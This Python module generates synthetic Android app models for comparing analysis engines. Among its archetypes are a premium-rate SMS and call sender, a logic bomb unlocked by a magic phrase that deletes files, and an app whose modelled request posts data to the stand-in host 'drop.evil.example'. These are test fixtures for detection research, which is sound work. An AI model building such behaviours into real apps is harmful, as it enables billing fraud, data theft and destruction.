"""Synthetic app corpus for engine-comparison experiments.

Twenty-odd deterministic app models built from a handful of archetypes:
plain menu apps both engines saturate, apps whose block mass hides
behind categorized-textfield gates, broadcast/SMS/call-gated logic
bombs, a crasher, a self-texting app, a premium-SMS sender and one
network-chatty app that exercises every pipeline verdict.

``attainment_eligible`` marks apps on which systematic exploration must
reach exactly the oracle's block set (only non-empty/category gates, no
partial-key collisions, crash reachable last if at all).
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import cached_property, partial
from json.encoder import encode_basestring_ascii
from operator import itemgetter
from pathlib import Path

from .app_model import (
    PHONE_STATE_ACTION,
    SMS_RECEIVED_ACTION,
    AppModel,
    model_from_dict,
)
from .data_tables import default_tables
from .rng import Xoshiro256StarStar, derive_seed

GATED_ARCHETYPES = ("textgate", "broadcastgate", "dynamicgate", "smsgate", "callgate")

# cycled to build a corpus of any size; the default 20 covers each shape
_ARCHETYPE_CYCLE = (
    "plain", "textgate", "plain", "broadcastgate", "textgate",
    "plain", "smsgate", "textgate", "dynamicgate", "plain",
    "callgate", "textgate", "selfsms", "plain", "textgate",
    "broadcastgate", "premium", "crasher", "logicbomb", "netchatty",
)

_GATE_CATEGORIES = ("password", "email", "iban", "first_name", "pin_code")
_GATE_HINTS = {
    "password": "Password",
    "email": "Email address",
    "iban": "IBAN",
    "first_name": "First name",
    "pin_code": "PIN code",
}
_BROADCAST_INTENTS = (
    "android.intent.action.BOOT_COMPLETED",
    "android.net.conn.CONNECTIVITY_CHANGE",
    "android.intent.action.USER_PRESENT",
    "android.intent.action.ACTION_POWER_CONNECTED",
)


@dataclass(frozen=True)
class CorpusApp:
    name: str
    doc: dict
    gated: bool
    attainment_eligible: bool

    @cached_property
    def model(self) -> AppModel:
        """The app's model, built from ``doc`` the first time it is read.

        Building it validates the document; ``write_corpus`` never reads
        it, since ``load_app_model`` checks each file when it is read.
        """
        return model_from_dict(self.doc, source=self.name)


class _Blocks:
    def __init__(self, package: str):
        self.package = package
        self.entries: list[dict] = []
        self._n = 0

    def new(self, cls: str, method: str, count: int = 1) -> list[str]:
        ids = []
        for _ in range(count):
            self._n += 1
            bid = f"b{self._n}"
            self.entries.append({"id": bid, "class": f"{self.package}.{cls}",
                                 "method": method})
            ids.append(bid)
        return ids


def _el(kind: str, *, id=None, text=None, desc=None, hint=None, row=0,
        actions=()) -> dict:
    return {
        "kind": kind, "id": id, "text": text, "description": desc, "hint": hint,
        "bounds": [40, 100 + 170 * row, 1000, 150],
        "actions": list(actions),
    }


def _ui(act, state, element, action, *, to=None, blocks=(), match=None,
        effects=(), crash=False) -> dict:
    t = {
        "from": {"activity": act, "state": state, "element": element},
        "trigger": {"action": action},
        "to": None if to is None else {"activity": to[0], "state": to[1]},
        "blocks": list(blocks),
        "side_effects": list(effects),
        "crash": crash,
    }
    if match is not None:
        t["trigger"]["match"] = match
    return t


def _rx(action, *, to=None, blocks=(), effects=()) -> dict:
    return {
        "from": {"receiver": action},
        "to": None if to is None else {"activity": to[0], "state": to[1]},
        "blocks": list(blocks),
        "side_effects": list(effects),
    }


def _java(sig: str, origin=("app_code",)) -> dict:
    return {"kind": "java_call", "signature": sig, "origin": list(origin)}


def _sys(name: str) -> dict:
    return {"kind": "system_call", "name": name}


def _base_doc(pkg: str, seq: int) -> dict:
    return {
        "package": pkg,
        "main_activity": "Main",
        "own_number": f"55501{seq:04d}",
        "activities": [],
        "transitions": [],
        "blocks": [],
        "receivers": {"declared": [], "dynamic": []},
        "alphabet": ["filler"],
    }


def _detail_screens(blocks, transitions, n: int) -> tuple[list[dict], list[dict]]:
    """n home buttons, each opening a drainable detail screen with a back
    button (kept last so systematic walks descend before returning)."""
    home_elements = []
    detail_states = []
    for j in range(n):
        btn = f"btn_open{j}"
        home_elements.append(_el("button", id=btn, text=f"Open {j}",
                                 row=j, actions=["click"]))
        enter = blocks.new("Detail", f"open{j}")
        work = blocks.new("Detail", f"work{j}")
        flip = blocks.new("Detail", f"flip{j}")
        back = blocks.new("Detail", f"close{j}")
        state = f"detail{j}"
        detail_states.append({"id": state, "elements": [
            _el("checkbox", id=f"check{j}", text="Option", row=0, actions=["toggle"]),
            _el("button", id=f"btn_work{j}", text="Run", row=1, actions=["click"]),
            _el("button", id=f"btn_back{j}", text="Back", row=2, actions=["click"]),
        ]})
        transitions.append(_ui("Main", "home", btn, "click", to=("Detail", state),
                               blocks=enter,
                               effects=[_java(f"void {blocks.package}.Detail.onCreate")]))
        transitions.append(_ui("Detail", state, f"check{j}", "toggle", blocks=flip))
        transitions.append(_ui("Detail", state, f"btn_work{j}", "click", blocks=work,
                               effects=[_sys("openat")]))
        transitions.append(_ui("Detail", state, f"btn_back{j}", "click",
                               to=("Main", "home"), blocks=back))
    return home_elements, detail_states


def _doc_plain(pkg, seq, rng):
    doc = _base_doc(pkg, seq)
    blocks = _Blocks(pkg)
    transitions = []
    n = 2 + rng.randrange(2)  # 2..3 detail screens
    scroll = blocks.new("Main", "onScroll")
    home_buttons, detail_states = _detail_screens(blocks, transitions, n)
    home = home_buttons + [
        _el("generic", desc="news feed", row=n, actions=["scroll"]),
    ]
    transitions.append(_ui("Main", "home", n, "scroll", blocks=scroll))
    doc["activities"] = [
        {"name": "Main", "initial_state": "home",
         "states": [{"id": "home", "elements": home}]},
        {"name": "Detail", "initial_state": detail_states[0]["id"],
         "states": detail_states},
    ]
    doc["transitions"] = transitions
    doc["blocks"] = blocks.entries
    return doc


def _doc_textgate(pkg, seq, rng):
    category = _GATE_CATEGORIES[seq % len(_GATE_CATEGORIES)]
    sample = default_tables().fill(category, itemgetter(0))
    doc = _base_doc(pkg, seq)
    doc["alphabet"] = [sample, "filler"]
    blocks = _Blocks(pkg)
    fill = blocks.new("Main", "onInput")
    decor = blocks.new("Main", "onScroll")
    enter = blocks.new("Vault", "unlock", 2)
    vault_work = [blocks.new("Vault", f"step{i}")[0] for i in range(4)]
    vault_flip = blocks.new("Vault", "flip")

    form_elements = [
        _el("textfield", id="edit_secret", hint=_GATE_HINTS[category], row=0,
            actions=["set_text"]),
        _el("button", id="btn_unlock", text="Unlock", row=1, actions=["click"]),
        _el("generic", desc="promo banner", row=2, actions=["scroll"]),
    ]
    vault_elements = [
        _el("checkbox", id="check_armed", text="Armed", row=0, actions=["toggle"]),
    ] + [
        _el("button", id=f"btn_step{i}", text=f"Step {i}", row=1 + i, actions=["click"])
        for i in range(4)
    ]
    match = {"kind": "matches_category", "category": category}
    transitions = [
        _ui("Main", "form", "edit_secret", "set_text", to=("Main", "filled"),
            blocks=fill, match=match),
        _ui("Main", "form", "promo banner", "scroll", blocks=decor),
        _ui("Main", "filled", "btn_unlock", "click", to=("Main", "vault"),
            blocks=enter,
            effects=[_java(f"void {pkg}.Vault.<init>", ("app_code", "framework_core"))]),
        _ui("Main", "vault", "check_armed", "toggle", blocks=vault_flip),
    ] + [
        _ui("Main", "vault", f"btn_step{i}", "click", blocks=[vault_work[i]],
            effects=[_sys("write")])
        for i in range(4)
    ]
    doc["activities"] = [{
        "name": "Main", "initial_state": "form",
        "states": [
            {"id": "form", "elements": form_elements},
            {"id": "filled", "elements": form_elements},
            {"id": "vault", "elements": vault_elements},
        ],
    }]
    doc["transitions"] = transitions
    doc["blocks"] = blocks.entries
    return doc


def _gated_base(pkg, seq):
    """Small ungated surface shared by the receiver-gated archetypes."""
    doc = _base_doc(pkg, seq)
    blocks = _Blocks(pkg)
    transitions = []
    home_buttons, detail_states = _detail_screens(blocks, transitions, 1)
    doc["activities"] = [
        {"name": "Main", "initial_state": "home",
         "states": [{"id": "home", "elements": home_buttons}]},
        {"name": "Detail", "initial_state": detail_states[0]["id"],
         "states": detail_states},
    ]
    return doc, blocks, transitions


# The receiver-gated archetypes, each as (intent, receiver method, extra
# origin flags, extra system calls). broadcastgate's intent (None) is
# chosen by the app's sequence number.
_RECEIVER_GATES = {
    "broadcastgate": (None, "onReceive", (), ("connect",)),
    "dynamicgate": ("android.bluetooth.device.action.ACL_CONNECTED", "onAcl",
                    ("inlined_candidate",), ()),
    "smsgate": (SMS_RECEIVED_ACTION, "onSms", (), ()),
    "callgate": (PHONE_STATE_ACTION, "onCall", (), ()),
}


def _doc_receivergate(archetype, pkg, seq, rng):
    intent, method, origin, syscalls = _RECEIVER_GATES[archetype]
    intent = intent or _BROADCAST_INTENTS[seq % len(_BROADCAST_INTENTS)]
    doc, blocks, transitions = _gated_base(pkg, seq)
    bomb = blocks.new("Receiver", method, 3)
    if archetype == "dynamicgate":
        # the receiver only exists once the detail screen was opened
        doc["receivers"]["dynamic"] = [
            {"activity": "Detail", "state": "detail0", "action": intent},
        ]
    else:
        doc["receivers"]["declared"] = [intent]
    effects = [_java(f"void {pkg}.Receiver.{method}", ("app_code", *origin))]
    transitions.append(_rx(intent, blocks=bomb,
                           effects=effects + [_sys(name) for name in syscalls]))
    doc["transitions"] = transitions
    doc["blocks"] = blocks.entries
    return doc


def _doc_selfsms(pkg, seq, rng):
    doc = _base_doc(pkg, seq)
    own = doc["own_number"]
    blocks = _Blocks(pkg)
    armed = blocks.new("Main", "enable")
    sent = blocks.new("Main", "send")
    recv = blocks.new("Receiver", "onSms", 2)
    home = [
        _el("button", id="btn_enable", text="Enable", row=0, actions=["click"]),
        _el("button", id="btn_send", text="Send", row=1, actions=["click"]),
    ]
    doc["activities"] = [{"name": "Main", "initial_state": "home",
                          "states": [{"id": "home", "elements": home}]}]
    doc["transitions"] = [
        _ui("Main", "home", "btn_enable", "click", blocks=armed,
            effects=[{"kind": "register_receiver", "action": SMS_RECEIVED_ACTION}]),
        _ui("Main", "home", "btn_send", "click", blocks=sent,
            effects=[{"kind": "outgoing_sms", "number": own, "body": "ping-self"}]),
        _rx(SMS_RECEIVED_ACTION, blocks=recv),
    ]
    doc["blocks"] = blocks.entries
    return doc


def _doc_premium(pkg, seq, rng):
    doc = _base_doc(pkg, seq)
    blocks = _Blocks(pkg)
    b_sms = blocks.new("Main", "sendPremium")
    b_call = blocks.new("Main", "dialPremium")
    b_info = blocks.new("Main", "showInfo")
    home = [
        _el("button", id="btn_txt", text="Claim prize", row=0, actions=["click"]),
        _el("button", id="btn_dial", text="Call support", row=1, actions=["click"]),
        _el("button", id="btn_info", text="Info", row=2, actions=["click"]),
    ]
    doc["activities"] = [{"name": "Main", "initial_state": "home",
                          "states": [{"id": "home", "elements": home}]}]
    doc["transitions"] = [
        _ui("Main", "home", "btn_txt", "click", blocks=b_sms,
            effects=[{"kind": "outgoing_sms", "number": "81001", "body": "SUB"}]),
        _ui("Main", "home", "btn_dial", "click", blocks=b_call,
            effects=[{"kind": "outgoing_call", "number": "0900555001"}]),
        _ui("Main", "home", "btn_info", "click", blocks=b_info),
    ]
    doc["blocks"] = blocks.entries
    return doc


def _doc_crasher(pkg, seq, rng):
    doc = _base_doc(pkg, seq)
    blocks = _Blocks(pkg)
    b_safe = blocks.new("Main", "safe")
    b_open = blocks.new("Main", "openTools")
    b_poke = blocks.new("Tools", "poke")
    b_boom = blocks.new("Tools", "corruptState")
    home = [
        _el("button", id="btn_safe", text="Safe", row=0, actions=["click"]),
        _el("button", id="btn_tools", text="Tools", row=1, actions=["click"]),
    ]
    tools = [
        _el("button", id="btn_poke", text="Poke", row=0, actions=["click"]),
        _el("button", id="btn_boom", text="Optimize", row=1, actions=["click"]),
    ]
    doc["activities"] = [
        {"name": "Main", "initial_state": "home",
         "states": [{"id": "home", "elements": home}]},
        {"name": "Tools", "initial_state": "tools",
         "states": [{"id": "tools", "elements": tools}]},
    ]
    doc["transitions"] = [
        _ui("Main", "home", "btn_safe", "click", blocks=b_safe),
        _ui("Main", "home", "btn_tools", "click", to=("Tools", "tools"), blocks=b_open),
        _ui("Tools", "tools", "btn_poke", "click", blocks=b_poke),
        _ui("Tools", "tools", "btn_boom", "click", blocks=b_boom, crash=True),
    ]
    doc["blocks"] = blocks.entries
    return doc


def _doc_logicbomb(pkg, seq, rng):
    magic = "open-sesame-42"
    doc = _base_doc(pkg, seq)
    doc["alphabet"] = [magic, "filler"]
    blocks = _Blocks(pkg)
    visible = blocks.new("Main", "onAbout")
    armed = blocks.new("Main", "armBomb")
    payload = blocks.new("Bomb", "detonate", 3)
    form = [
        _el("textfield", id="edit_code", hint="Activation phrase", row=0,
            actions=["set_text"]),
        _el("button", id="btn_about", text="About", row=1, actions=["click"]),
        _el("button", id="btn_run", text="Run", row=2, actions=["click"]),
    ]
    doc["activities"] = [{"name": "Main", "initial_state": "form",
                          "states": [
                              {"id": "form", "elements": form},
                              {"id": "armed", "elements": form},
                          ]}]
    doc["transitions"] = [
        _ui("Main", "form", "edit_code", "set_text", to=("Main", "armed"),
            blocks=armed, match={"kind": "equals", "value": magic}),
        _ui("Main", "form", "btn_about", "click", blocks=visible),
        _ui("Main", "armed", "btn_run", "click", blocks=payload,
            effects=[_sys("unlink")]),
    ]
    doc["blocks"] = blocks.entries
    return doc


def _doc_netchatty(pkg, seq, rng):
    doc = _base_doc(pkg, seq)
    blocks = _Blocks(pkg)

    def req(lines: list[str], body: bytes = b"") -> str:
        head = "\r\n".join(lines) + "\r\n\r\n"
        return head + body.decode("latin-1")

    drop_body = b"x23=MAL-DROP-001&go=1"
    effects = {
        "btn_post": {"kind": "network_request", "protocol": "http",
                     "data": req(["POST /upload HTTP/1.1", "Host: drop.evil.example",
                                  f"Content-Length: {len(drop_body)}"], drop_body)},
        "btn_ping": {"kind": "network_request", "protocol": "http",
                     "data": req(["GET /beacon HTTP/1.1", "Host: telemetry.trusted.example",
                                  "User-Agent: cage-app/1.0"])},
        "btn_misc": {"kind": "network_request", "protocol": "http",
                     "data": req(["GET /misc?id=7 HTTP/1.1", "Host: api.unknown.example"])},
        "btn_ads": {"kind": "network_request", "protocol": "https",
                    "server": "cfg.adsmogo.com",
                    "data": req(["GET /GetInfo.ashx?appid=7ffc7be9 HTTP/1.1",
                                 "Host: cfg.adsmogo.com", "Connection: Keep-Alive"])},
        "btn_bank": {"kind": "network_request", "protocol": "https",
                     "server": "secure.bank.example",
                     "data": req(["GET /account HTTP/1.1", "Host: secure.bank.example"])},
        "btn_ftp": {"kind": "network_request", "protocol": "ftp",
                    "data": "USER anonymous\r\n"},
        # intentionally malformed: dropped and logged by the pipeline
        "btn_bad": {"kind": "network_request", "protocol": "http",
                    "data": "\x00\x01 not a request"},
    }
    home = []
    transitions = []
    for row, (btn, effect) in enumerate(effects.items()):
        label = btn.removeprefix("btn_").title()
        home.append(_el("button", id=btn, text=label, row=row, actions=["click"]))
        bid = blocks.new("Net", btn.removeprefix("btn_"))
        transitions.append(_ui("Main", "home", btn, "click", blocks=bid,
                               effects=[effect, _java(f"void {pkg}.Net.request")]))
    doc["activities"] = [{"name": "Main", "initial_state": "home",
                          "states": [{"id": "home", "elements": home}]}]
    doc["transitions"] = transitions
    doc["blocks"] = blocks.entries
    return doc


_BUILDERS = {
    "plain": _doc_plain,
    "textgate": _doc_textgate,
    "selfsms": _doc_selfsms,
    "premium": _doc_premium,
    "crasher": _doc_crasher,
    "logicbomb": _doc_logicbomb,
    "netchatty": _doc_netchatty,
    **{archetype: partial(_doc_receivergate, archetype) for archetype in _RECEIVER_GATES},
}


def build_corpus(seed: int = 0, count: int = 20) -> list[CorpusApp]:
    """The corpus's ``count`` app documents of ``seed``; each app's model is
    built (and its document validated) only when ``CorpusApp.model`` is read."""
    if count < 1:
        raise ValueError("count must be >= 1")
    apps = []
    for i in range(count):
        archetype = _ARCHETYPE_CYCLE[i % len(_ARCHETYPE_CYCLE)]
        rng = Xoshiro256StarStar(derive_seed(seed, f"corpus-app-{i}"))
        name = f"app{i:02d}_{archetype}"
        pkg = f"com.corpus.{archetype}{i:02d}"
        doc = _BUILDERS[archetype](pkg, i, rng)
        # logicbomb is equals-gated: the oracle can key in the magic phrase,
        # engines cannot.
        apps.append(CorpusApp(name, doc, archetype in GATED_ARCHETYPES,
                              archetype != "logicbomb"))
    return apps


_LITERALS = {True: "true", False: "false", None: "null"}


def _json(value, indent: str = "\n") -> str:
    """``json.dumps(value, indent=2)`` for plain ``str``/``int``/``bool``/
    ``None``/``list``/``dict`` values (str keys only), byte for byte.

    ``json.dumps`` with an indent runs json's pure-Python encoder; this
    writer does only what plain values need and escapes strings with the
    same C function. Any other type, subclasses included, raises
    ``TypeError`` rather than being written some other way. ``indent`` is
    the newline and indent of ``value``'s line.
    """
    kind = type(value)
    if kind is str:
        return encode_basestring_ascii(value)
    if kind is int:
        return int.__repr__(value)
    if kind is dict:
        if not value:
            return "{}"
        inner = indent + "  "
        items = []
        for key, item in value.items():
            if type(key) is not str:
                raise TypeError(f"key {key!r} is not a str")
            items.append(encode_basestring_ascii(key) + ": " + _json(item, inner))
        return "{" + inner + ("," + inner).join(items) + indent + "}"
    if kind is list:
        if not value:
            return "[]"
        inner = indent + "  "
        return ("[" + inner + ("," + inner).join([_json(item, inner) for item in value])
                + indent + "]")
    if kind is bool or value is None:
        return _LITERALS[value]
    raise TypeError(f"cannot write {kind.__name__} as JSON")


def write_corpus(directory: str | Path, seed: int = 0, count: int = 20) -> list[Path]:
    """Materialize the corpus as ``.app`` files for the CLI.

    Each file is written as ``json.dumps(doc, indent=2)`` would write it,
    and is not validated here: ``load_app_model`` checks it when it is
    read. A ``.app`` file in ``directory`` that this call does not write
    is removed, so the directory holds one corpus; any other file is left
    alone.
    """
    apps = build_corpus(seed, count)
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    paths = [directory / f"{app.name}.app" for app in apps]
    names = {path.name for path in paths}
    for stale in directory.glob("*.app"):
        if stale.name not in names:
            stale.unlink()
    for app, path in zip(apps, paths):
        path.write_text(_json(app.doc) + "\n", encoding="utf-8")
    return paths
